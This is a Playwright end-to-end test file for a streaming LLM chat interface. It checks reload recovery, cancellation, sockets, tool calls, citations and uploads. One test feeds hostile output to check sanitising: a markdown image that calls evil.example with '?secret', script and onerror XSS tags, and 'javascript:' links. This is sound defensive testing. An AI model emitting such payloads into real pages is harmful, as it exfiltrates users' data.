"""The main job: type a prompt, watch the answer arrive, lose the page, find all of it again."""

import base64
import json

import pytest
from playwright.sync_api import BrowserContext, Page, Route, WebSocketRoute, expect

from tests.scripted import ScriptedUpstream
from tests.started import StartedServer

from .chat_page import CHAT, answer, ask, conversation, ended, kept, run_of, send, uuid_of
from .given_files import drop, paste

PIXEL = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
)


@pytest.fixture(scope="module")
def server(scripted_server: StartedServer) -> StartedServer:
    return scripted_server


def test_shows_text_as_it_comes_and_all_of_it_after_a_reload(page: Page, upstream: ScriptedUpstream) -> None:
    ask(page)
    upstream.token("## Trees\n\nThe *first* ")
    expect(answer(page)).to_contain_text("The first")
    upstream.token("words,\n")
    page.reload()
    expect(answer(page)).to_contain_text("The first words,")
    upstream.token("  the   last\u2028 words: <b>&amp;</b>.")
    upstream.finish()
    ended(page)
    expect(page.locator("#status")).to_have_text("Complete")
    assert kept(page)["text"] == "## Trees\n\nThe *first* words,\n  the   last\u2028 words: <b>&amp;</b>."
    shown = answer(page).inner_text().split("\n", 1)
    assert shown[0] == "Trees"
    assert shown[1].split() == ["The", "first", "words,", "the", "last", "words:", "<b>&</b>."]


def test_finds_the_run_of_a_closed_tab_and_goes_on(
    context: BrowserContext, upstream: ScriptedUpstream
) -> None:
    closed = context.new_page()
    ask(closed, "Where did it go?")
    upstream.token("Still ")
    expect(answer(closed)).to_contain_text("Still")
    uuid = uuid_of(closed)
    closed.close()
    page = context.new_page()
    upstream.token("here.")
    upstream.finish()
    page.goto(f"/history/{uuid}/")
    ended(page)
    page.goto("/history/")
    row = page.locator("[data-row]").filter(has_text="Where did it go?").first
    expect(row).to_contain_text("completed")
    row.get_by_role("link").click()
    expect(page.locator("#beside")).to_contain_text("Still here.")
    page.locator("#beside").get_by_role("link", name="Edit and run again").click()
    expect(page).to_have_url(f"/chat/?run={uuid}")
    expect(answer(page)).to_contain_text("Still here.")

    upstream.asked.clear()
    send(page, "Go on.")
    upstream.token("Gladly.")
    upstream.finish()
    expect(page.locator("[data-run][data-status='completed']")).to_have_count(2)
    assert upstream.body["messages"] == [
        {"role": "user", "content": "Where did it go?"},
        {"role": "assistant", "content": "Still here."},
        {"role": "user", "content": "Go on."},
    ]


def test_groups_what_is_finished_of_a_long_answer_in_its_order(
    page: Page, upstream: ScriptedUpstream
) -> None:
    ask(page)
    for number in range(50):
        upstream.token(f"{'## Part' if number % 10 == 0 else 'Words'} {number}\n\n")
        expect(answer(page)).to_contain_text(str(number))
    upstream.token("The end.")
    upstream.finish()
    ended(page)
    groups = answer(page).locator(".blocks")
    sizes = [groups.nth(index).locator("> *").count() for index in range(groups.count())]
    assert sizes == [20, 20, 11]
    shown = answer(page).inner_text().split()
    page.reload()
    assert answer(page).inner_text().split() == shown
    assert shown[:4] == ["Part", "0", "Words", "1"]
    assert shown[-4:] == ["Words", "49", "The", "end."]


@pytest.mark.parametrize("text", ["", "Half of it"], ids=["before the first byte", "mid-stream"])
@pytest.mark.parametrize("way", ["button", "key"])
def test_stops_and_keeps_the_text(page: Page, upstream: ScriptedUpstream, way: str, text: str) -> None:
    ask(page)
    assert upstream.asked.wait(15)
    if text:
        upstream.token(text)
        expect(answer(page)).to_contain_text(text)
    stop = page.locator("[data-action='stop']")
    expect(stop).to_contain_text("Stop")
    if way == "key":
        page.keyboard.press("Escape")
    else:
        stop.click()
    ended(page, "cancelled")
    assert upstream.left.wait(5)
    expect(page.locator("#status")).to_have_text("Stopped")
    expect(run_of(page).locator(".run-state")).to_contain_text("cancelled")
    expect(stop).to_be_hidden()
    expect(answer(page)).to_have_text(text)
    assert kept(page)["text"] == text


def test_shows_two_tabs_the_same_and_stops_both(context: BrowserContext, upstream: ScriptedUpstream) -> None:
    one, other = context.new_page(), context.new_page()
    ask(one)
    upstream.token("For one ")
    expect(answer(one)).to_contain_text("For one")
    other.goto(one.url)
    expect(answer(other)).to_contain_text("For one")
    upstream.token("and all.")
    for page in (one, other):
        expect(answer(page)).to_have_text("For one and all.")
    other.locator("[data-action='stop']").click()
    for page in (one, other):
        ended(page, "cancelled")
        expect(answer(page)).to_have_text("For one and all.")


def test_asks_for_the_text_where_sockets_are_blocked(page: Page, upstream: ScriptedUpstream) -> None:
    page.route_web_socket("**/ws/runs/**", lambda socket: socket.close())
    ask(page)
    upstream.token("Without ")
    expect(run_of(page).locator(".run-hint")).to_contain_text("No live connection")
    expect(answer(page)).to_contain_text("Without")
    upstream.token("a socket.")
    expect(answer(page)).to_contain_text("Without a socket.")
    upstream.finish()
    ended(page)
    expect(answer(page)).to_have_text("Without a socket.")
    expect(page.locator("#status")).to_have_text("Complete")


@pytest.mark.parametrize("code", [1000, 1011])
def test_reconnects_when_the_socket_is_lost(page: Page, upstream: ScriptedUpstream, code: int) -> None:
    sockets: list[WebSocketRoute] = []

    def through(socket: WebSocketRoute) -> None:
        socket.connect_to_server()
        sockets.append(socket)

    page.route_web_socket("**/ws/runs/**", through)
    ask(page)
    upstream.token("- one\n- two\n\nOpen ")
    expect(answer(page)).to_contain_text("Open")
    sockets[0].close(code=code)
    upstream.token("and closed.")
    expect(answer(page)).to_contain_text("Open and closed.")
    upstream.finish()
    ended(page)
    assert answer(page).inner_text().split() == ["one", "two", "Open", "and", "closed."]
    assert len(sockets) == 2


def test_offers_each_choice_and_goes_on_with_the_chosen_one(page: Page, upstream: ScriptedUpstream) -> None:
    ask(page, address=f"{CHAT}&n=2")
    upstream.token("Left", 0)
    upstream.token("Right", 1)
    first, second = (page.get_by_role("tab", name=f"Choice {number}") for number in (1, 2))
    expect(page.get_by_role("tabpanel", name="Choice 1")).to_have_text("Left")
    first.focus()
    page.keyboard.press("ArrowRight")
    expect(second).to_be_focused()
    expect(second).to_have_attribute("aria-selected", "true")
    expect(page.get_by_role("tabpanel", name="Choice 2")).to_have_text("Right")
    upstream.token(" side", 1)
    upstream.event({"choices": [{"index": 1, "delta": {}, "finish_reason": "stop"}]})
    upstream.finish()
    ended(page)
    expect(page.get_by_role("tabpanel", name="Choice 2")).to_have_text("Right side")
    expect(second).to_have_attribute("aria-selected", "true")
    assert conversation(page)[-1] == {"role": "assistant", "content": "Right side"}
    upstream.asked.clear()
    send(page, "More")
    assert upstream.asked.wait(15)
    assert upstream.body["messages"][1] == {"role": "assistant", "content": "Right side"}


def test_shows_a_tool_call_that_comes_in_pieces(page: Page, upstream: ScriptedUpstream) -> None:
    def call(**function: str) -> None:
        part = {"index": 0, "function": function}
        if "name" in function:
            part |= {"id": "call_1", "type": "function"}
        upstream.event({"choices": [{"index": 0, "delta": {"tool_calls": [part]}}]})

    ask(page)
    call(name="get_weather", arguments="")
    call(arguments='{"city": "Pa')
    shown = page.locator(".tool-call")
    expect(shown).to_contain_text('{"city": "Pa')
    call(arguments='ris"}')
    upstream.finish("tool_calls")
    ended(page)
    expect(shown).to_have_count(1)
    expect(shown).to_contain_text("get_weather")
    expect(shown.locator(".code-text")).to_have_text('{"city": "Paris"}')
    assert conversation(page)[-1]["tool_calls"][0]["function"]["arguments"] == '{"city": "Paris"}'


def test_shows_reasoning_refusal_and_why_it_ended(page: Page, upstream: ScriptedUpstream) -> None:
    ask(page)
    for delta in (
        {"reasoning_content": "Let me "},
        {"reasoning_content": "think."},
        {"refusal": "I cannot "},
        {"refusal": "help."},
    ):
        upstream.event({"choices": [{"index": 0, "delta": delta}]})
    upstream.finish("length")
    ended(page)
    expect(page.locator(".reasoning-text")).to_have_text("Let me think.")
    expect(page.locator(".refusal")).to_have_text("I cannot help.")
    expect(answer(page)).to_contain_text("Stopped at the token limit")


def test_numbers_the_sources_that_an_answer_cites(page: Page, upstream: ScriptedUpstream) -> None:
    def cited(url: str, title: str) -> dict[str, object]:
        return {"type": "url_citation", "url_citation": {"url": url, "title": title}}

    ask(page)
    upstream.token("Tides follow the moon ([NOAA](https://noaa.example/tides)).")
    given = [cited("https://noaa.example/tides", "About tides"), cited("javascript:alert(1)", "Not a page")]
    upstream.event({"choices": [{"index": 0, "delta": {"annotations": given}}]})
    upstream.finish()
    ended(page)
    sources = page.get_by_role("list", name="Sources").get_by_role("listitem")
    expect(sources).to_contain_text(["About tides noaa.example", "Not a page"])
    expect(sources.get_by_role("link")).to_have_count(1)
    expect(sources.get_by_role("link")).to_have_attribute("href", "https://noaa.example/tides")
    expect(answer(page).locator(".markdown sup")).to_have_text("[1]")


def test_shows_markdown_and_nothing_that_harms(page: Page, upstream: ScriptedUpstream) -> None:
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    ask(page)
    for piece in (
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n",
        "```python\nprint(1)\n",
        "\n  print(2)\n```\n\n",
        "1. first\n2. second\n\n[a link](https://example.org/page)\n\n",
        "![the plan](https://evil.example/leak.png?secret)\n\n",
        "<script>alert(1)</script> <img src=https://evil.example/x onerror=alert(1)>\n\n[bad](javascript:alert(1))",
    ):
        upstream.token(piece)
    upstream.finish()
    ended(page)
    text = answer(page)
    expect(text.locator("table td")).to_have_text(["1", "2"])
    expect(text.locator("ol li")).to_have_text(["first", "second"])
    link = text.get_by_role("link", name="a link")
    expect(link).to_have_attribute("target", "_blank")
    expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
    expect(text).to_contain_text(
        "<script>alert(1)</script> <img src=https://evil.example/x onerror=alert(1)>"
    )
    expect(text.get_by_role("link", name="the plan (evil.example)")).to_be_visible()
    assert text.locator("img, script, [onerror], [href^='javascript']").count() == 0
    assert not [url for url in asked if "evil.example" in url]

    copy = text.get_by_role("button", name="Copy")
    copy.click()
    expect(text.get_by_role("button", name="Copied")).to_be_visible()
    assert page.evaluate("navigator.clipboard.readText()") == "print(1)\n\n  print(2)\n"


@pytest.mark.parametrize("way", ["upload", "paste", "drop"])
def test_sends_a_picture(page: Page, upstream: ScriptedUpstream, way: str) -> None:
    page.goto(CHAT)
    if way == "upload":
        picture = {"name": "pixel.png", "mimeType": "image/png", "buffer": PIXEL}
        page.locator("#id_composer_uploads").set_input_files([picture, {**picture, "name": "other.png"}])
        expect(page.locator(".upload")).to_have_count(2)
        page.get_by_role("button", name="Remove other.png").click()
    else:
        give = paste if way == "paste" else drop
        give(page.locator("#id_composer"), PIXEL, "pixel.png", "image/png")
    expect(page.locator(".upload-name")).to_have_text("pixel.png")
    send(page, "What is it?")
    upstream.token("A pixel.")
    upstream.finish()
    ended(page)
    expect(page.locator(".message .part-image img")).to_be_visible()
    expect(page.locator(".upload")).to_have_count(0)
    text, picture_part = upstream.body["messages"][0]["content"]
    assert text == {"type": "text", "text": "What is it?"}
    url = picture_part["image_url"]["url"]
    assert url.startswith("data:image/png;base64,")
    assert base64.b64decode(url.partition(",")[2]).startswith(b"\x89PNG")


def test_sends_the_conversation_as_it_was_rearranged(page: Page, upstream: ScriptedUpstream) -> None:
    messages = [{"role": "user", "content": text} for text in ("one", "two", "three")]
    page.goto(CHAT)
    page.locator("#messages-field summary").click()
    page.locator("#id_messages").fill(json.dumps(messages))
    page.locator("#id_messages").blur()
    rows = page.locator(".message")
    expect(rows).to_have_count(3)
    rows.nth(0).get_by_label("Role").select_option("developer")
    expect(page.locator(".message[data-role='developer']")).to_have_count(1)
    rows.nth(2).hover()
    rows.nth(2).get_by_role("button", name="Move up").click()
    expect(rows.nth(1)).to_contain_text("three")
    rows.nth(2).hover()
    rows.nth(2).get_by_role("button", name="Remove").click()
    rows.nth(1).hover()
    rows.nth(1).get_by_role("button", name="Insert a message below").click()
    expect(rows.nth(2).get_by_label("Text of the message")).to_be_focused()
    page.keyboard.type("inserted")
    page.keyboard.press("Control+Enter")
    expect(rows.nth(2)).to_contain_text("inserted")
    send(page, "last")
    upstream.finish()
    ended(page)
    assert upstream.body["messages"] == [
        {"role": "developer", "content": "one"},
        {"role": "user", "content": "three"},
        {"role": "assistant", "content": "inserted"},
        {"role": "user", "content": "last"},
    ]


def test_regenerates_in_place_of_the_old_answer(page: Page, upstream: ScriptedUpstream) -> None:
    ask(page, "Again")
    upstream.token("First try")
    upstream.finish()
    ended(page)
    upstream.asked.clear()
    page.get_by_role("button", name="Regenerate").click()
    upstream.token("Second try")
    upstream.finish()
    expect(answer(page)).to_have_text("Second try")
    ended(page)
    expect(page.locator("[data-run]")).to_have_count(1)
    assert upstream.body["messages"] == [{"role": "user", "content": "Again"}]
    assert len(upstream.requests) == 2


def test_keeps_the_conversation_over_reload_back_and_a_second_tab(
    context: BrowserContext, page: Page, upstream: ScriptedUpstream
) -> None:
    ask(page, "Stay")
    upstream.token("I stay.")
    upstream.finish()
    ended(page)
    page.locator("#id_composer").fill("a draft")
    page.reload()
    expect(page.locator("#id_composer")).to_have_value("a draft")
    expect(answer(page)).to_contain_text("I stay.")
    page.get_by_role("link", name="History").first.click()
    expect(page).to_have_url("/history/")
    page.go_back()
    expect(answer(page)).to_contain_text("I stay.")
    expect(page.locator("#id_composer")).to_have_value("a draft")

    second = context.new_page()
    second.goto("/chat/")
    expect(second.locator("#id_composer")).to_have_value("a draft")
    expect(answer(second)).to_contain_text("I stay.")
    assert conversation(second) == conversation(page)


def test_makes_one_run_of_a_double_click(page: Page, upstream: ScriptedUpstream) -> None:
    page.goto(CHAT)
    page.locator("#id_composer").fill("Once")
    page.locator("#run").dblclick()
    upstream.token("Once.")
    upstream.finish()
    ended(page)
    expect(page.locator("[data-run]")).to_have_count(1)
    expect(page.locator(".message")).to_have_count(1)
    assert len(upstream.requests) == 1


def test_is_used_by_keyboard_alone(page: Page, upstream: ScriptedUpstream) -> None:
    page.goto(CHAT)
    page.keyboard.press("/")
    page.keyboard.type("Typed")
    page.keyboard.press("Control+Enter")
    upstream.token("Half")
    expect(answer(page)).to_have_text("Half")
    expect(page.locator("#id_composer")).to_be_focused()
    page.keyboard.press("Escape")
    ended(page, "cancelled")
    page.keyboard.press("Control+k")
    page.keyboard.type("hist")
    page.keyboard.press("Enter")
    page.wait_for_url("/history/")
    page.keyboard.press("?")
    expect(page.locator("#shortcuts")).to_be_visible()
    page.keyboard.press("Escape")
    expect(page.locator("#shortcuts")).to_be_hidden()
    page.keyboard.press("j")
    page.keyboard.press("Enter")
    expect(page.locator("#beside")).to_contain_text("Half")


def test_waits_with_a_run_for_a_picture_on_its_way(page: Page, upstream: ScriptedUpstream) -> None:
    held: list[Route] = []
    page.route("**/files/", lambda route: held.append(route))
    page.goto(CHAT)
    page.locator("#id_composer_uploads").set_input_files(
        [{"name": "pixel.png", "mimeType": "image/png", "buffer": PIXEL}]
    )
    send(page, "What is it?")
    waits = page.locator("#composer-error")
    expect(waits).to_contain_text("Runs when pixel.png has been sent")
    page.keyboard.press("Escape")
    expect(waits).to_be_hidden()
    expect(page.locator("#id_composer")).to_have_value("What is it?")
    page.keyboard.press("Control+Enter")
    expect(waits).to_contain_text("Runs when pixel.png has been sent")
    assert upstream.requests == []
    held[0].continue_()
    upstream.token("A pixel.")
    upstream.finish()
    ended(page)
    assert upstream.body["messages"][-1]["content"][1]["type"] == "image_url"


def test_says_that_a_run_is_in_progress(page: Page, upstream: ScriptedUpstream) -> None:
    page.goto(CHAT)
    send(page, "Go")
    upstream.token("Half")
    expect(page.locator("[data-run]")).to_have_attribute("data-status", "in_progress")
    upstream.finish()
    ended(page)
